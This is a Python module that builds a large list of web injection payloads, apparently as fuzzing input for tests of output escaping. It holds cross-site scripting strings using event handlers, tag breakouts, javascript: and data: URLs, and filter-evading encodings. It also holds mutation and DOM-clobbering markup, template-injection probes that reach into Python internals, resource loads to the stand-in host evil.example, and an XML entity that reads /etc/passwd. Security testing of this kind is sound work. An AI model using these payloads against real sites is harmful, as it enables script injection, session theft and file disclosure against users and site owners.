"""Words that are markup or script wherever somebody forgets to escape them. Made by families; each tells itself apart by a number."""

from collections.abc import Iterator
from itertools import product

FOREIGN = "evil.example"
PRODUCT = "1787569"  # 1337 × 1337: no page holds it unless a template language computed it
MARK = "__mark"

# Ways to run: each sets a mark that a test can find.
_RUN = (f"{MARK}(1)", f"window.{MARK}=1", "alert(1)", "top.alert`1`", "self['ale'+'rt'](1)", "import('//evil.example/m.js')")
_HANDLERS = (
    ("img src=x", "onerror"),
    ("img src=//evil.example/i.png", "onload"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("style", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("math><mi", "onclick"),
    ("div contenteditable autofocus", "onfocus"),
    ("xss style=animation-name:x", "onanimationstart"),
    ("button popovertarget=x autofocus", "onfocus"),
    ("dialog open", "onpointerenter"),
    ("form", "onsubmit"),
    ("a href=# autofocus", "onfocus"),
    ("meter", "onmouseover"),
    ("track src=x", "onerror"),
    ("keygen autofocus", "onfocus"),
)
_SHAPES = ("<{tag} {on}={run}>", "<{tag}/{on}={run}>", "<{tag}\t{on}\t=\n'{run}'>", '<{TAG} {ON}="{run}"//', "<{tag} {on}=&#x61;lert(1)>")
_BREAKOUTS = (
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "</select>",
    "</option>",
    "</button>",
    "</a>",
    "</iframe>",
    "</xmp>",
    '\\">',
    '"><!--',
    "';}</script>",
)
_AFTER = ("<script>{run}</script>", "<svg/onload={run}>", "<img src=x onerror={run}>")
_ATTRIBUTES = ('" onfocus={run} autofocus x="', "' onfocus={run} autofocus x='", '" style="background:url(//evil.example/c)" x="')
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\u00a0javascript:{run}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "&#106;avascript:{run}",
    "\\x6aavascript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/redirect",
    "https:evil.example",
    "/\\evil.example",
    "\\\\evil.example\\share",
    "view-source:javascript:{run}",
)
_HOLDERS = ('<a href="{url}">x</a>', '<iframe src="{url}">', '<form action="{url}"><button>x</form>', "[x]({url})", "{url}")
_LOADS = (
    "<img src=//evil.example/1>",
    "<img srcset='//evil.example/2 1x'>",
    "<picture><source srcset=//evil.example/3><img></picture>",
    "<link rel=stylesheet href=//evil.example/4>",
    "<link rel=preload as=image href=//evil.example/5>",
    "<link rel=prefetch href=//evil.example/6>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/7'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<iframe src=//evil.example/8></iframe>",
    "<iframe srcdoc='<script>parent.__mark(1)</script>'></iframe>",
    "<object data=//evil.example/9></object>",
    "<embed src=//evil.example/10>",
    "<video poster=//evil.example/11 src=//evil.example/12></video>",
    "<audio src=//evil.example/13 autoplay>",
    "<input type=image src=//evil.example/14>",
    "<table background=//evil.example/15>",
    "<svg><image href=//evil.example/16 /></svg>",
    "<svg><use href=//evil.example/17#x /></svg>",
    "<style>@import '//evil.example/18';</style>",
    "<div style=background-image:url(//evil.example/19)>",
    "<script src=//evil.example/20></script>",
    "<script type=module>import '//evil.example/21'</script>",
    '<script type=importmap>{"imports":{"x":"//evil.example/22"}}</script>',
    "<portal src=//evil.example/23>",
    "<a ping=//evil.example/24 href=#>x</a>",
    "<form action=//evil.example/25 id=f><input autofocus></form><button form=f>",
    "<frameset><frame src=//evil.example/26>",
    "<bgsound src=//evil.example/27>",
)
_MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<template><s><template shadowrootmode=open><img src=x onerror=alert(1)>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<a id=config><a id=config name=url href=//evil.example/clobber>",
    "<form id=document><input name=body></form>",
    "<img name=getElementById>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<x><![CDATA[<img src=x onerror=alert(1)>]]></x>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)
_TEMPLATES = (
    "{{1337*1337}}",
    "{{ 1337 * 1337 }}",
    "{%print(1337*1337)%}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%=1337*1337%>",
    "${{1337*1337}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{''.__class__.__mro__}}",
    "{{config.items()}}",
    "%(name)s %s {0.__class__}",
    "{# {{1337*1337}} #}",
)
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u2028>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u0130mg src=x onerror=alert(1)>",
    "¼script¾alert(1)¼/script¾",
    "<ſcript>alert(1)</ſcript>",
    "\u202e<script>alert(1)</script>\u202c",
    "<img src=x:x onerror=\\u0061lert(1)>",
    '<a href="\u0001javascript:alert(1)">x</a>',
)


def _families() -> Iterator[str]:
    for number, ((tag, event), shape) in enumerate(product(_HANDLERS, _SHAPES)):
        run = _RUN[number % len(_RUN)]
        yield shape.format(tag=tag, on=event, TAG=tag.upper(), ON=event.upper(), run=run)
    for number, (breakout, after) in enumerate(product(_BREAKOUTS, _AFTER)):
        yield breakout + after.format(run=_RUN[number % len(_RUN)])
    for attribute, run in product(_ATTRIBUTES, _RUN[:3]):
        yield attribute.format(run=run)
    for number, (scheme, holder) in enumerate(product(_SCHEMES, _HOLDERS)):
        yield holder.format(url=scheme.format(run=_RUN[number % 4]))
    yield from (*_LOADS, *_TEMPLATES, *_ENCODED, *_MUTATIONS)


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_families()))
ALL_TOGETHER = "\n".join(PAYLOADS)


def short(number: int, longest: int) -> str:
    """One payload that fits into so many characters."""
    fitting = [payload.replace("\n", " ").strip() for payload in PAYLOADS if len(payload) <= longest]
    return fitting[number % len(fitting)]


def many(number: int, longest: int) -> str:
    """As many payloads as fit into so many characters, beginning at another place each time."""
    start, told = number * 17 % len(PAYLOADS), ""
    for payload in PAYLOADS[start:] + PAYLOADS[:start]:
        if len(told) + len(payload) + 1 > longest:
            break
        told += payload + "\n"
    return told.strip()
